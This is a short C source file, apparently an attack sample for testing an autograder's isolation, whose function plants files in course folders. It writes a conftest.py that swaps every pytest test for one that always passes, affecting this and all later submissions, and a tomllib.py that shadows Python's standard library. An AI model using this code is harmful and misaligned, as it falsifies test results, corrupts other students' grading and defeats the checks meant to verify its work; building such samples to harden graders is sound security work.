/*
 * Plants Python into the course folder: a tomllib.py in its top folder
 * (the grader's working folder, ahead of the standard library on
 * Python's path) and a conftest.py beside the lab's tests that replaces
 * every test with one that passes, for this submission and every one
 * graded after it.
 */
#include "attack.h"

#define CONFTEST "def pytest_collection_modifyitems(items):\n" \
	"    for item in items:\n" \
	"        item.obj = lambda *args, **kwargs: None\n"
#define TOMLLIB "raise ImportError('planted by a submission')\n"

void attack(void)
{
	char roots[MAX_ROOTS][PATH_MAX];
	char path[PATH_MAX + 64];
	int count = find_course_roots(roots, MAX_ROOTS);

	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof(path), "%s/labs/01-tcp-echo/tests/conftest.py", roots[i]);
		if (write_text(path, CONFTEST) == 0)
			attack_report("planted %s", path);
		snprintf(path, sizeof(path), "%s/tomllib.py", roots[i]);
		if (write_text(path, TOMLLIB) == 0)
			attack_report("planted %s", path);
	}
}
